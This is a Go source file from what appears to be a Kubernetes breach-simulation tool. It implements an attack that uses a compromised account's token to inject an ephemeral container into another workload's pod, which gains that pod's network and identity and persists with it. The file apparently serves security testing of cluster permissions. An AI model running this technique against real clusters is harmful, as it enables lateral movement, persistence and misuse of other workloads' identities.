package attacks

import (
	"context"
	"errors"

	"github.com/meshbreach/meshbreach/attacker"
)

// AddEphemeralContainer has the parameters of add-ephemeral-container.
type AddEphemeralContainer struct {
	Submission
	// In names the cast member whose pod gets the container.
	In string `json:"in,omitempty" jsonschema:"required"`
	// Request is what the container asks of the target and then ends, where
	// somebody runs it. Empty: nobody is to run it.
	Request Request `json:"request,omitempty"`
}

// Check refuses parameters that say too little.
func (p *AddEphemeralContainer) Check() error {
	return errors.Join(named("in", p.In, "whose pod gets the container"), p.Submission.Check())
}

func addEphemeralContainer() attacker.Attack {
	return attacker.New("add-ephemeral-container", "Add a container to another workload's pod",
		`Uses an account's token to ask the platform's API for an ephemeral container in
another workload's pod, as a debugger would. The container has the pod's network
and identity. The attack succeeds if the API returns the container as requested.
Where nodes run the container and it has to call the target, the attack succeeds
if that call arrives. The container remains for as long as the pod exists.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p AddEphemeralContainer, emit func(attacker.Observation)) error {
			n := nonce()
			pod, err := podOf(t, p.In)
			if err != nil {
				return err
			}
			name := objectName(n)
			c, err := containerSpec(name, p.Request, n, t)
			if err != nil {
				return err
			}
			x := apiObject{
				owner: p.In, path: pod + "/ephemeralcontainers", patch: true,
				body: map[string]any{"spec": map[string]any{"ephemeralContainers": []any{c}}},
			}
			if runs(p.Request, t) {
				x.runs = &container{pod, name}
			}
			return p.submit(ctx, f, t, n, x, emit)
		})
}
